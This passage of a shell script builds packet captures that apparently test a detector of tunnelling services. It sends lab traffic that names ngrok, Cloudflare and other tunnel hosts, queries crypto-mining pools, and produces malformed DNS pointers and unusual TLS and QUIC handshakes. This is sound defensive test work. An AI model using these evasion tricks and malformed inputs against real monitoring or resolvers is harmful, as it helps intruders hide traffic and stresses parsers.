    quic abcd-203-0-113-5.ngrok-free.app 7844         # QinQ 200/300, IPv4
    quic k3x9.euw.devtunnels.ms 4433                  # QinQ 200/300, IPv6
    # an FFDHE8192 key share (1024 bytes) first: the ClientHello spans two Initial packets
    quic x9.localtonet.com 4433 --groups=-GROUP-ALL:+GROUP-FFDHE8192:+GROUP-X25519
    quic "$LONG" 7844                                 # a 253-character SNI
    quic quic-v2.trycloudflare.com 4433 -v v2draft   # QUIC v2 draft (0x709a50c4)
    quic retry.trycloudflare.com 4434                 # Retry, then an Initial to the new DCID
    # a session ticket, then a resumption with 0-RTT: Initial and 0-RTT in one datagram
    quic brave-cat-42.loca.lt 4433 --session-file="$WORK/quic.session" --tp-file="$WORK/quic.tp"
    quic brave-cat-42.loca.lt 4433 --session-file="$WORK/quic.session" --tp-file="$WORK/quic.tp"
    tls $SRV:7844 h2.cftunnel.com                     # cloudflared's http2 transport: TLS on TCP 7844
    cap_stop
fi

# 10. http.pcap -- HTTP/1.x requests: curl to tools/httpd.py on 80 and 8080 (keep-alive), through
# tinyproxy (absolute URI and CONNECT), python3 http.client with each header in four segments
if want http; then
    log http.pcap
    cap_start "$C" "$OUT/http.pcap" tcpdump -i tw-c0
    web --resolve abc.trycloudflare.com:8080:$SRV http://abc.trycloudflare.com:8080/
    web --resolve www.debian.org:80:$SRV http://www.debian.org/
    web --resolve x9.localtonet.com:8080:$SRV \
        http://x9.localtonet.com:8080/a http://x9.localtonet.com:8080/b http://x9.localtonet.com:8080/c   # one connection
    web -x http://$SRV:3128 http://h2.cftunnel.com:8080/                     # absolute URI to the proxy
    web -x http://$SRV:3128 http://abcd-203-0-113-5.ngrok-free.app/
    web -p -x http://$SRV:3128 http://brave-cat-42.loca.lt:8080/             # CONNECT, then GET inside
    web -6 --resolve "demo.serveo.net:8080:[$SRV6]" http://demo.serveo.net:8080/
    web --resolve 8d7f.lhr.life:8080:10.20.100.1 http://8d7f.lhr.life:8080/  # 802.1Q 100
    web -6 --resolve "xyz.a.pinggy.link:80:[fd20:100::1]" http://xyz.a.pinggy.link/
    web --resolve bore.pub:80:10.20.200.1 http://bore.pub/                   # QinQ 200/300
    web -6 --resolve "k3x9.euw.devtunnels.ms:8080:[fd20:200::1]" http://k3x9.euw.devtunnels.ms:8080/
    # a POST with a body, then a GET on the same connection (curl --next keeps it); HTTP/1.0
    web --resolve amber-fox.trycloudflare.com:8080:$SRV -d 'tunnel=1&x=2' http://amber-fox.trycloudflare.com:8080/post \
        --next -s -o /dev/null --max-time 10 --resolve amber-fox.trycloudflare.com:8080:$SRV \
        http://amber-fox.trycloudflare.com:8080/after
    web -0 --resolve r2d2.localtonet.com:80:$SRV http://r2d2.localtonet.com/
    # http.client, each header in four segments; two hosts on one connection
    inC python3 "$TOOLS/httpsplit.py" $SRV 8080 a1b2c3.localto.net www.debian.org >>"$WORK/client.log" 2>&1
    inC python3 "$TOOLS/httpsplit.py" $SRV6 80 quick-fox-lake.trycloudflare.com >>"$WORK/client.log" 2>&1
    inC python3 "$TOOLS/httpsplit.py" 10.20.100.1 8080 connect.ngrok-agent.com >>"$WORK/client.log" 2>&1
    inC python3 "$TOOLS/httpsplit.py" fd20:200::1 8080 0.tcp.ngrok.io >>"$WORK/client.log" 2>&1
    inC python3 "$TOOLS/httpsplit.py" --lowercase $SRV 80 xyz.a.free.pinggy.link >>"$WORK/client.log" 2>&1
    # no name: the server's address as the host (Host: 10.20.0.1:8080, [fd20::1]:8080)
    web http://$SRV:8080/by-address
    web -6 "http://[$SRV6]:8080/by-address"
    cap_stop
fi

# 11. tls_lenient.pcap -- ClientHellos with the oddities real servers accept (and a few they
# refuse), each sent by tools/tlshello.py to openssl s_server (443) and to gnutls-serv (5443):
# the server's answer (ServerHello or alert) is in the capture, and what each server did is
# written to tls_lenient.servers.tsv. Then a real client's 64 KiB hello: openssl s_client with
# an ALPN list of 2,302 names (four TLS records).
if want tls_lenient; then
    log tls_lenient.pcap
    ALPN_HUGE=$(python3 -c 'print(",".join(["h2", "http/1.1"] + ["x-tunwatch-huge-hello-%04d" % i for i in range(2300)]))')
    cap_start "$C" "$OUT/tls_lenient.pcap" tcpdump -i tw-c0
    {
        printf 'case\tserver\tverdict\tdetail\tbytes\n'
        inC python3 "$TOOLS/tlshello.py" $SRV 443 | sed 's/^\([^\t]*\)\t/\1\topenssl\t/'
        inC python3 "$TOOLS/tlshello.py" $SRV 5443 | sed 's/^\([^\t]*\)\t/\1\tgnutls\t/'
    } >"$WORK/servers.tsv"
    tls $SRV:443 huge-alpn.localto.net -alpn "$ALPN_HUGE"
    cap_stop
    cp "$WORK/servers.tsv" "$OUT/tls_lenient.servers.tsv"
    grep -c accepted "$OUT/tls_lenient.servers.tsv" | sed 's/^/accepted: /'
fi

# 12. dns_answers.pcap -- DNS responses as rules read them: HTTPS/SVCB records (one with ech=),
# TXT, MX, NXDOMAIN, the reserved Z bit, SigmaHQ's mining-pool and TXT rules; then names that
# share one address, each connected to by its SNI, and a hello naming only an ECH public name
if want dns_answers; then
    log dns_answers.pcap
    qn() { q +noadflag "$@"; }   # no AD bit in the query: Zeek's Z is 0 unless set below
    cap_start "$C" "$OUT/dns_answers.pcap" tcpdump -i tw-c0
    qn @$SRV plain.ech-demo.example HTTPS
    qn @$SRV secret.ech-demo.example HTTPS                     # ech=
    qn +tcp @$SRV secret.ech-demo.example HTTPS                # the same over TCP
    qn @$SRV _dns.resolver.ech-demo.example SVCB
    qn @$SRV cmd.ech-demo.example TXT
    qn @$SRV mail.ech-demo.example MX
    qn @$SRV gone.nx-demo.example A                            # NXDOMAIN
    q +zflag +noadflag @$SRV z.ech-demo.example A              # the reserved Z bit set
    qn @$SRV pool.supportxmr.com A
    qn @$SRV pool.minexmr.com A                                # answered 0.0.0.0
    qn @$SRV alpha.ech-demo.example A
    qn @$SRV beta.ech-demo.example A
    tls 10.20.0.19:443 alpha.ech-demo.example                  # not the name resolved last
    tls 10.20.0.19:443 beta.ech-demo.example
    qn @$SRV secret.ech-demo.example A
    tls 10.20.0.19:443 public.ech-demo.example                 # never resolved: as an ECH outer SNI
    cap_stop
fi

# 13. dns_pointers.pcap -- names behind compression pointers RFC 9267 asks encoders not to
# write, which real resolvers still read: tools/dnsptr.py sends dnsmasq queries whose name is a
# forward pointer, a label then a forward pointer, a chain of 200 pointers, a pointer into the
# header, two questions the first pointing at the second, and a loop; what dnsmasq answered is
# written to dns_pointers.servers.tsv. Then glibc's stub resolver (getent, with
# tools/dnsptr.py's server as its resolver) follows a CNAME whose target is a forward pointer,
# and openssl s_client connects to the address it got without sending a server_name.
if want dns_pointers; then
    log dns_pointers.pcap
    cap_start "$C" "$OUT/dns_pointers.pcap" tcpdump -i tw-c0
    {
        printf 'case\tserver\tverdict\tdetail\n'
        inC python3 "$TOOLS/dnsptr.py" query $SRV | sed 's/^\([^\t]*\)\t/\1\tdnsmasq\t/'
        got=$(inC unshare -m sh -c "mount --bind '$WORK/resolv-ptr.conf' /etc/resolv.conf &&
            exec getent ahostsv4 cdn-fwd.localto.net" 2>>"$WORK/client.log" | awk 'NR == 1 { print $1, $3 }')
        case $got in
        10.20.0.21*) printf 'cname_forward\tglibc\tanswered\tgetent ahostsv4: %s\n' "$got" ;;
        *) printf 'cname_forward\tglibc\trefused\tgetent ahostsv4: no address\n' ;;
        esac
    } >"$WORK/ptr.tsv"
    inC timeout 10 openssl s_client -brief -connect 10.20.0.21:443 -noservername </dev/null >>"$WORK/client.log" 2>&1
    cap_stop
    cp "$WORK/ptr.tsv" "$OUT/dns_pointers.servers.tsv"
    cat "$OUT/dns_pointers.servers.tsv"
fi

# 14. tfo.pcap -- ClientHellos in TCP Fast Open SYNs: curl --tcp-fastopen three times over
# IPv4 (the first SYN asks for a cookie, the next two carry the cookie and the whole hello) and
# twice over IPv6
if want tfo; then
    log tfo.pcap
    cap_start "$C" "$OUT/tfo.pcap" tcpdump -i tw-c0
    for i in 1 2 3; do web --tcp-fastopen --resolve tfo$i.localto.net:443:$SRV https://tfo$i.localto.net/; done
    for i in 4 5; do web -6 --tcp-fastopen --resolve "tfo$i.ngrok-free.app:443:[$SRV6]" https://tfo$i.ngrok-free.app/; done
    cap_stop
    n=$(tshark -n -r "$OUT/tfo.pcap" -Y 'tcp.flags.syn == 1 && tcp.flags.ack == 0 && tls.handshake.type == 1' 2>/dev/null | wc -l)
    echo "hellos in a SYN: $n"
    [ "$n" -ge 2 ] || { echo "gen.sh: no ClientHello in a Fast Open SYN" >&2; exit 1; }
fi

# 15. sni_port.pcap -- server_names sent as host:port (openssl s_client sends -servername as
# given; gnutls-cli cuts a port off), which s_server takes as they come: to 443, to 8443 over
# IPv6, and with a trailing dot before the port to 4443; each handshake completes
if want sni_port; then
    log sni_port.pcap
    : >"$WORK/sni_port.log"
    cap_start "$C" "$OUT/sni_port.pcap" tcpdump -i tw-c0
    for a in "$SRV:443 port1.localto.net:443" "[$SRV6]:8443 port2.ngrok-free.app:8443" \
             "$SRV:4443 port3.trycloudflare.com.:4443"; do
        set -- $a
        inC timeout 10 openssl s_client -brief -connect "$1" -servername "$2" </dev/null \
            >>"$WORK/sni_port.log" 2>&1
    done
    cap_stop
    n=$(grep -c '^CONNECTION ESTABLISHED' "$WORK/sni_port.log")
    echo "handshakes completed: $n of 3"
    [ "$n" = 3 ] || { echo "gen.sh: a server refused a host:port server_name" >&2; exit 1; }
fi

# 16. hello_retry.pcap -- a second ClientHello after a HelloRetryRequest: openssl s_client
# offering its key share for P-256 to an s_server that takes X25519 only (its second hello
# repeats the first's server_name), the same in QUIC (gtlsclient, gtlsserver), then tools/tlshello.py's hello_retry_same and
# hello_retry_other (a second hello naming another server) to openssl s_server (443) and
# gnutls-serv (5443): both accept the other name; their verdicts go to hello_retry.servers.tsv
if want hello_retry; then
    log hello_retry.pcap
    : >"$WORK/hrr.log"
    cap_start "$C" "$OUT/hello_retry.pcap" tcpdump -i tw-c0
    inC timeout 10 openssl s_client -brief -connect $SRV:9443 -servername hrr.localto.net \
        -groups P-256:X25519 </dev/null >>"$WORK/hrr.log" 2>&1
    # the same in QUIC: ngtcp2's client offering X25519 and P-256 shares to a server that takes
    # P-384 (its third group) only
    echo "$SRV hrr-quic.localto.net" >>"$WORK/hosts.quic"
    quic hrr-quic.localto.net 4435 --groups=-GROUP-ALL:+GROUP-X25519:+GROUP-SECP256R1:+GROUP-SECP384R1
    {
        printf 'case\tserver\tverdict\tdetail\tbytes\n'
        inC python3 "$TOOLS/tlshello.py" $SRV 443 hello_retry_same hello_retry_other |
            sed 's/^\([^\t]*\)\t/\1\topenssl\t/'
        inC python3 "$TOOLS/tlshello.py" $SRV 5443 hello_retry_same hello_retry_other |
            sed 's/^\([^\t]*\)\t/\1\tgnutls\t/'
    } >"$WORK/retry.tsv"
    cap_stop
    cp "$WORK/retry.tsv" "$OUT/hello_retry.servers.tsv"
    grep -q '^CONNECTION ESTABLISHED' "$WORK/hrr.log" ||
        { echo "gen.sh: s_client's handshake after a HelloRetryRequest failed" >&2; cat "$WORK/hrr.log" >&2; exit 1; }
    [ "$(grep -c 'accepted	ServerHello after a HelloRetryRequest' "$OUT/hello_retry.servers.tsv")" = 4 ] ||
        { echo "gen.sh: a server refused a second hello" >&2; cat "$OUT/hello_retry.servers.tsv" >&2; exit 1; }
fi

# ------------------------------------------------------------ name tables
names() {
    tshark -n -r "$1" -o tcp.desegment_tcp_streams:TRUE -o tls.desegment_ssl_records:TRUE \
        -o tcp.reassemble_out_of_order:TRUE -d tcp.port==5443,tls \
        -Y 'dns.flags.response==0 || tls.handshake.type==1 || http.request' -T fields -E header=y \
        -e frame.number -e ip.src -e ipv6.src -e tcp.srcport -e udp.srcport \
        -e dns.qry.name -e dns.qry.type -e tls.handshake.extensions_server_name -e http.host -e http.request.uri \
        -e quic.version \
        >"$1.names.tsv" 2>"$WORK/tshark.log"
}
for f in "$OUT"/*.pcap "$OUT"/*.pcapng "$OUT"/linktypes/*.pcap; do
    n=${f#"$OUT"/}; n=${n%%/*}; n=${n%.pcapng}; n=${n%.pcap}
    want "$n" || continue   # only the tables of the captures made by this run
    names "$f"
    printf '%-28s %5s packets %4s names\n' "${f#"$OUT"/}" \
        "$(capinfos -M -c -T "$f" 2>/dev/null | awk -F'\t' 'NR==2{print $2}')" "$(($(wc -l <"$f.names.tsv") - 1))"
done
# tshark 4.0 does not decrypt the QUIC v2 draft (0x709a50c4): the name of that run, at the first
# client datagram of its flow, goes into a table of its own that says why
if want quic; then
    {
        printf 'frame.number\tip.src\tipv6.src\ttcp.srcport\tudp.srcport\tdns.qry.name\tdns.qry.type\t'
        printf 'tls.handshake.extensions_server_name\thttp.host\thttp.request.uri\tquic.version\treason\n'
        tshark -n -r "$OUT/quic.pcap" -d udp.port==4433,quic -Y 'quic.version==0x709a50c4 && udp.dstport==4433' \
            -T fields -e frame.number -e ip.src -e ipv6.src -e udp.srcport 2>>"$WORK/tshark.log" | head -n 1 |
            awk -F'\t' -v OFS='\t' '{ print $1, $2, $3, "", $4, "", "", "quic-v2.trycloudflare.com", "", "", "0x709a50c4",
                "QUIC v2 draft: tshark 4.0 does not decrypt it; the name gtlsclient -v v2draft was given" }'
    } >"$OUT/quic.pcap.names.extra.tsv"
    [ "$(wc -l <"$OUT/quic.pcap.names.extra.tsv")" = 2 ] || { echo "gen.sh: no QUIC v2 draft Initial in quic.pcap" >&2; exit 1; }
fi
# the NULL file is derived from the Ethernet one: tshark must see the same names
if want linktypes; then
    cut -f2- "$OUT/linktypes/ether.pcap.names.tsv" >"$WORK/a"
    cut -f2- "$OUT/linktypes/null.pcap.names.tsv" >"$WORK/b"
    cmp -s "$WORK/a" "$WORK/b" || { echo "gen.sh: null.pcap decodes differently from ether.pcap" >&2; exit 1; }
fi
log done
